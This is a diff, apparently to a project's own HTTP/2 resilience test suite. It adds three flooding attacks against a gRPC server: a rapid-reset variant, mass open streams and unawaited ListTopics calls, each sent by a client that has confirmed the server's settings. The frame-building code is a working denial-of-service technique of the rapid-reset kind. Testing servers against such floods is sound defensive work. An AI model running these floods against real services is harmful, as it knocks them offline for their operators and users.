@@ -198,6 +198,42 @@ def rapid_reset(target):
     target.flood(lambda _: [], piece)
 
 
+# A client that confirmed our settings has to be held by other bounds than one that did not.
+CONFIRMED = frames.PREFACE + frames.settings(table=0) + frame(frames.SETTINGS, frames.ACK, 0)
+
+
+@attack
+def confirmed_rapid_reset(target):
+    """The same by a client that confirmed the server's settings."""
+    headers, body = call_headers(APPEND), message(target.append(100))
+
+    def piece(n):
+        return b"".join(
+            frame(frames.HEADERS, frames.END_HEADERS, stream, headers) +
+            frames.data_frames(stream, body) + frame(frames.RST_STREAM, 0, stream, b"\0\0\0\x08")
+            for stream in range(200 * n + 1, 200 * n + 201, 2))
+    target.flood(lambda _: [], piece, preface=CONFIRMED)
+
+
+@attack
+def confirmed_open_calls(target):
+    """Calls without a request, up to what one connection may have, by such a client."""
+    headers = call_headers(APPEND)
+    target.flood(lambda _: [], lambda n: b"".join(
+        frame(frames.HEADERS, frames.END_HEADERS, stream, headers)
+        for stream in range(200 * n + 1, 200 * n + 201, 2)), preface=CONFIRMED)
+
+
+@attack
+def confirmed_list_topics(target):
+    """Synchronous calls as fast as they are taken, answers not waited for. Not withstood yet: reliability.md."""
+    headers = call_headers("/tidemark.v1.Topics/ListTopics")
+    target.flood(lambda _: [], lambda n: b"".join(
+        frame(frames.HEADERS, frames.END_HEADERS, stream, headers) +
+        frames.data_frames(stream, message(b""))
+        for stream in range(20 * n + 1, 20 * n + 21, 2)), preface=CONFIRMED)
+
+
 @attack
 def made_resets(target):
     """Calls that the server has to reset: window updates of 0 on their stream (CVE-2025-8671)."""
